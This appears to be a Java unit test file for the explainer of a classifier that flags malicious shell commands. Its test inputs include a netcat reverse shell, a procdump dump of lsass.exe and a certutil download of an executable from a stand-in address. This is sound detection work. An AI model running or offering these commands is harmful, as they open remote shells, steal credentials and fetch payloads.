package dev.longtail.training.classify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import dev.longtail.training.classify.LineExplanation.Feature;
import dev.longtail.training.classify.LineExplanation.Near;
import dev.longtail.training.classify.LineExplanation.Share;
import dev.longtail.training.data.Arm;
import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelLineage;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.data.LineOrigin;
import dev.longtail.training.data.MinedCommand;
import dev.longtail.training.data.TrainingSet;
import dev.longtail.udfs.io.InputException;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ModelExplainerTest {
  private static final LineSources WITH_VECTORS = LineSources.TEXT.with(new HashedVectors());
  private static final MinedCommand EXEMPLAR =
      new MinedCommand(
          "xcopy /s \\\\nas\\share C:\\data",
          "2025-01-05",
          MinedCommand.FULL,
          List.of("isolation-forest"),
          new LineOrigin("windows", ""),
          new LabelLineage("2025-01-05/full/abc", "some-judge", "v3"));

  /** A vectorizer and any weights; the product of {@code ls} before anything else. */
  private record Weighted(NgramVectorizer vectorizer, float[] weights, double ofLs) {
    static Weighted draw() {
      float[] weights = new float[NgramVectorizer.columns()];
      Random random = new Random(7);
      for (int i = 0; i < weights.length; i++) {
        weights[i] = (float) random.nextGaussian();
      }
      NgramVectorizer vectorizer = new NgramVectorizer();
      return new Weighted(vectorizer, weights, vectorizer.dot("ls", weights));
    }
  }

  private static final Weighted ON_WORDS = Weighted.draw();

  private static Model onText;
  private static Model onEmbeddings;

  @TempDir private Path folder;

  @BeforeAll
  static void train() {
    List<LabelledCommand> rows = new ArrayList<>(Lines.draw(400, 1));
    rows.add(new LabelledCommand(EXEMPLAR.cmd(), Label.BENIGN, EXEMPLAR.origin()));
    TrainingSet set =
        new TrainingSet(
            "ab+full",
            "ab",
            Arm.FULL,
            rows,
            1,
            0,
            0,
            new TrainingSet.Overlap(0, 0),
            List.of(EXEMPLAR));
    ModelSettings settings = new ModelSettings(20, 1);
    onText = Model.train(set, settings, LineSources.TEXT);
    onEmbeddings = Model.train(set, settings, WITH_VECTORS);
  }

  private static Model model(boolean embeddings) {
    return embeddings ? onEmbeddings : onText;
  }

  @Property
  void theAmountsOfAllWordsAddUpToTheProduct(Any any) {
    NgramVectorizer vectorizer = ON_WORDS.vectorizer();
    float[] weights = ON_WORDS.weights();
    String line = any.of(any.text(), Lines.draw(1, any.between(0, 99)).get(0).cmd(), "İI ıi  ß");
    Map<String, Double> words = NgramAttribution.of(line, weights, vectorizer);
    double sum = words.values().stream().mapToDouble(Double::doubleValue).sum();
    assertThat(sum).isCloseTo(vectorizer.dot(line, weights), within(1e-6));
    // Nothing is left over for the next line
    assertThat(vectorizer.dot("ls", weights)).isEqualTo(ON_WORDS.ofLs());
  }

  @Test
  void aWordIsATokenWithTheSignsBeforeIt() {
    float[] weights = new float[NgramVectorizer.columns()];
    java.util.Arrays.fill(weights, 1);
    assertThat(
            NgramAttribution.of(
                    "CMD.exe /c  whoami; whoami >> \"a b\"", weights, new NgramVectorizer())
                .keySet())
        .containsExactly("cmd", ".exe", "/c", "whoami", ";", ">>", "\"a", "b", "\"");
  }

  @Test
  void theAmountsOfTheTreesAddUpToTheirSum() {
    List<SparseRow> rows = new ArrayList<>();
    List<LabelledCommand> lines = Lines.draw(200, 5);
    boolean[] malicious = new boolean[lines.size()];
    float[] weights = new float[malicious.length];
    for (int i = 0; i < malicious.length; i++) {
      rows.add(new CommandVectorizer().row(lines.get(i).cmd()));
      malicious[i] = lines.get(i).isMalicious();
      weights[i] = 1 + i % 3;
    }
    byte[] json =
        new TreeTrainer(rows, malicious, weights, CommandVectorizer.columns())
            .train(BoostingSettings.reference(5, 1));
    TreeEnsemble trees = TreeEnsemble.parse(json, "trees");
    TreeEnsemble.Evaluator evaluator = trees.new Evaluator();
    for (LabelledCommand line : Lines.draw(100, 6)) {
      SparseRow row = new CommandVectorizer().row(line.cmd());
      double sum = trees.prior();
      for (double amount : evaluator.contributions(row)) {
        sum += amount;
      }
      assertThat(sum).isCloseTo(evaluator.logOdds(row), within(1e-5));
    }
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void thePartsAddUpToTheLogOddsOfTheScore(boolean embeddings) {
    ModelExplainer explainer = model(embeddings).explainer();
    CommandClassifier classifier = model(embeddings).classifier();
    List<String> lines = new ArrayList<>(List.of("", "\ud83d", "a; b", "nc -e /bin/sh 1.2.3.4 1"));
    Lines.draw(50, 3).forEach(line -> lines.add(line.cmd()));
    for (String line : lines) {
      LineExplanation explanation = explainer.explain(line);
      assertThat(explanation.score()).isEqualTo(classifier.score(line));
      double sum = explanation.parts().stream().mapToDouble(Share::logOdds).sum();
      assertThat(sum).isCloseTo(explanation.logOdds(), within(1e-4));
      assertThat(1 / (1 + Math.exp(-explanation.logOdds())))
          .isCloseTo(explanation.score(), within(1e-5));
      assertThat(explanation.features()).hasSizeLessThanOrEqualTo(12);
    }
  }

  @Test
  void namesThePartsThatTheModelHas() {
    assertThat(onText.explainer().explain("ls").parts())
        .extracting(Share::part)
        .containsExactly("prior", "text", "marks");
    assertThat(onEmbeddings.explainer().explain("git status").parts())
        .extracting(Share::part)
        .startsWith("prior", "text", "marks", "trees", "neighbours", "ridge");
  }

  @Test
  void saysWhichWordsAndMarksSpeakForAnAttack() {
    List<Feature> features =
        onText.explainer().explain("procdump -ma lsass.exe zzz && git status").features();
    assertThat(features)
        .filteredOn(feature -> feature.kind().equals("text") && feature.logOdds() > 0)
        .extracting(Feature::name)
        .contains("procdump", "lsass");
    assertThat(features).extracting(Feature::kind).contains("mark");
  }

  @Test
  void saysWhichCommandOfTheLineDecided() {
    ModelExplainer explainer = onText.explainer();
    LineExplanation explanation =
        explainer.explain("git status zzz; certutil -urlcache -f http://10.0.0.9/a a.exe");
    assertThat(explanation.command()).startsWith("certutil");
    assertThat(explanation.features()).extracting(Feature::name).doesNotContain("git", "status");
    assertThat(explainer.explain("git status zzz").command()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void findsTheExemplarAndWhereItCameFrom(boolean embeddings) throws IOException {
    model(embeddings).save(folder);
    Model loaded = Model.load(folder);
    Model ready = embeddings ? loaded.with(new HashedVectors()) : loaded;
    for (Model model : List.of(model(embeddings), ready)) {
      LineExplanation explanation = model.explainer().explain(EXEMPLAR.cmd());
      Near nearest = explanation.nearestBenign().get(0);
      assertThat(nearest.cosine()).isCloseTo(1, within(0.01));
      assertThat(nearest.line())
          .isEqualTo(
              new ModelLine(
                  EXEMPLAR.cmd(),
                  false,
                  "",
                  "windows",
                  "",
                  "2025-01-05",
                  "full",
                  List.of("isolation-forest"),
                  "2025-01-05/full/abc",
                  "some-judge",
                  "v3"));
      assertThat(explanation.nearestMalicious())
          .hasSize(3)
          .allMatch(near -> near.line().malicious())
          .allMatch(near -> near.line().set().equals("ab"))
          .isSortedAccordingTo((a, b) -> Double.compare(b.cosine(), a.cosine()));
    }
    assertThat(ready.lines()).isEqualTo(model(embeddings).lines());
  }

  @Test
  void everyLineIsItsOwnNearest() {
    ModelExplainer explainer = onEmbeddings.explainer();
    for (ModelLine line : onEmbeddings.lines()) {
      LineExplanation explanation = explainer.explain(line.cmd());
      List<Near> nearest =
          line.malicious() ? explanation.nearestMalicious() : explanation.nearestBenign();
      assertThat(nearest.get(0).cosine()).isGreaterThan(0.99);
      assertThat(nearest).extracting(Near::line).contains(line);
    }
  }

  @Test
  void aModelWithoutLinesScoresTheSameAndExplainsWithoutTexts() throws IOException {
    onEmbeddings.save(folder);
    onEmbeddings.withoutLines().save(folder);
    assertThat(folder.resolve("lines.jsonl")).doesNotExist();
    Model loaded = Model.load(folder).with(new HashedVectors());
    LineExplanation with = onEmbeddings.explainer().explain("git status");
    LineExplanation without = loaded.explainer().explain("git status");
    assertThat(without.score()).isEqualTo(with.score());
    assertThat(without.features()).isEqualTo(with.features());
    assertThat(without.nearestBenign())
        .extracting(Near::cosine)
        .isEqualTo(with.nearestBenign().stream().map(Near::cosine).toList());
    assertThat(without.nearestBenign()).allMatch(near -> near.line().cmd().isEmpty());
    assertThat(onText.withoutLines().explainer().explain("ls").nearestBenign()).isEmpty();
  }

  @Test
  void refusesLinesThatAreNotThoseOfTheVectors() throws IOException {
    onEmbeddings.save(folder);
    Path file = folder.resolve("lines.jsonl");
    List<String> good = Files.readAllLines(file);
    Files.write(file, good.subList(1, good.size()));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("lines.jsonl: ")
        .hasMessageContaining("but the model has");
    List<String> turned = new ArrayList<>(good);
    java.util.Collections.reverse(turned);
    Files.write(file, turned);
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("its malicious lines do not come first");
    Files.writeString(file, "{\"cmd\":\"ls\"}\n");
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("lines.jsonl:1: field \"malicious\"");
  }
}
